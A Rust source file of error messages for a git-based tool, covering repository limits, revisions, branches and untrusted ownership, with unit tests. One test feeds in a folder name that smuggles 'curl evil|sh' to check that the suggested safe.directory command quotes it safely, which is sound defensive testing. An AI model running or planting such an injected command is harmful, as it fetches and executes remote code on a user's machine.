//! Why a repository does not answer, each in one line that says what to do.

use std::io;
use std::path::{Path, PathBuf};

/// The bounds of a copy that its errors name: how deep folders lie, bytes of a path, and of all files.
pub(crate) const MAX_DEPTH: usize = 100;
pub(crate) const MAX_PATH: usize = 4096;
pub(crate) const MAX_BYTES: u64 = 256 << 20;

/// Why there is no copy, in one line.
#[derive(Debug, thiserror::Error)]
pub enum CopyError {
    #[error("it has more than {0} files or folders")]
    TooMany(usize),
    #[error("it has folders more than {MAX_DEPTH} deep, or a path of more than {MAX_PATH} bytes")]
    TooDeep,
    #[error("its files have more than {} MiB", MAX_BYTES >> 20)]
    TooLarge,
    #[error("{}", .0.message())]
    Git(#[from] git2::Error),
    #[error(transparent)]
    Write(#[from] io::Error),
}

#[derive(Debug, thiserror::Error)]
pub enum RepoError {
    #[error("there is no git repository in {} or above it", .0.display())]
    NoRepository(PathBuf),
    #[error(
        "the configuration of the repository (core.worktree) says that its files are in {}, which does not hold {}: \
         remove this setting, or start in that folder",
        .work_tree.display(),
        .start.display()
    )]
    Elsewhere { work_tree: PathBuf, start: PathBuf },
    #[error("{} has no commit yet, so there is nothing to compare with: commit the old version first", .0.display())]
    NoCommit(PathBuf),
    #[error("{revision} is not a revision of this repository: {reason}")]
    Revision { revision: String, reason: String },
    #[error("{revision} is not a revision of this repository: {}", ancestors(.from, *.count, *.is_shallow))]
    NoAncestor { revision: String, from: String, count: usize, is_shallow: bool },
    #[error("{0} has no parent, so there is nothing to compare with: write OLD..NEW")]
    NoParent(String),
    #[error("{old} and {new} have no commit in common: write {old}..{new}")]
    NoBase { old: String, new: String },
    #[error("{range} has more than {most} commits: choose a shorter range")]
    TooManyCommits { range: String, most: usize },
    #[error("there is a branch {0} already: choose another name")]
    BranchExists(String),
    #[error("{0} cannot be the name of a branch: choose another one")]
    BranchName(String),
    #[error("the index has conflicts: resolve them, and git add the files")]
    Conflicts,
    #[error("{} is outside the repository", .0.display())]
    Outside(PathBuf),
    #[error("a bare repository has no working tree: name two commits")]
    Bare,
    #[error("{revision}: {error}")]
    Files { revision: String, error: CopyError },
    #[error("{}: {reason}", .folder.display())]
    Folder { folder: PathBuf, reason: String },
    #[error("cannot read the repository: {0}")]
    Git(String),
    #[error("{}", of_another(.0))]
    Owner(PathBuf),
    #[error(transparent)]
    System(#[from] io::Error),
}

impl From<git2::Error> for RepoError {
    fn from(error: git2::Error) -> Self {
        match error.code() {
            // libgit2 names it: repository path '/a/b/' is not owned by current user
            git2::ErrorCode::Owner => {
                let quoted = error.message().split_once('\'').and_then(|(_, rest)| rest.rsplit_once('\''));
                RepoError::Owner(quoted.map(|(folder, _)| folder.trim_end_matches('/').into()).unwrap_or_default())
            }
            _ => RepoError::Git(error.message().to_owned()),
        }
    }
}

/// What to do with a repository of another user, who chose its name, too.
fn of_another(folder: &Path) -> String {
    let what = "belongs to another user, who may have put commands and settings into it";
    let name = folder.display().to_string();
    match shlex::try_quote(&name) {
        Ok(quoted) if !name.is_empty() => {
            format!("{name} {what}: if you trust it, run `git config --global --add safe.directory {quoted}`")
        }
        _ => format!("the repository {what}: if you trust it, add its folder to safe.directory in git's configuration"),
    }
}

/// How far the commits before one go back.
fn ancestors(from: &str, count: usize, is_shallow: bool) -> String {
    let there_are = match count {
        0 => format!("no commit is before {from}"),
        1 => format!("1 commit is before {from}, {from}~1"),
        many => format!("{many} commits are before {from}, the first one is {from}~{many}"),
    };
    // Services that run checks copy only the last commits.
    let more = if is_shallow { "; `git fetch --unshallow` gets those that this clone lacks" } else { "" };
    there_are + more
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn how_far_commits_go_back_is_told() {
        assert_eq!(ancestors("v1", 0, false), "no commit is before v1");
        assert!(ancestors("v1", 1, true).ends_with("v1~1; `git fetch --unshallow` gets those that this clone lacks"));
    }

    #[test]
    fn a_command_for_the_user_has_the_name_of_a_folder_as_one_word() {
        let told = |message: &str| {
            let error = git2::Error::new(git2::ErrorCode::Owner, git2::ErrorClass::Config, message);
            RepoError::from(error).to_string()
        };
        let named = |folder: &str| told(&format!("repository path '{folder}/' is not owned by current user"));
        assert!(named("/tmp/x;curl evil|sh").ends_with("safe.directory '/tmp/x;curl evil|sh'`"));
        assert!(named("/home/o'brien/a").ends_with("safe.directory \"/home/o'brien/a\"`"));
        assert!(told("no path").starts_with("the repository belongs to another user"));
    }
}
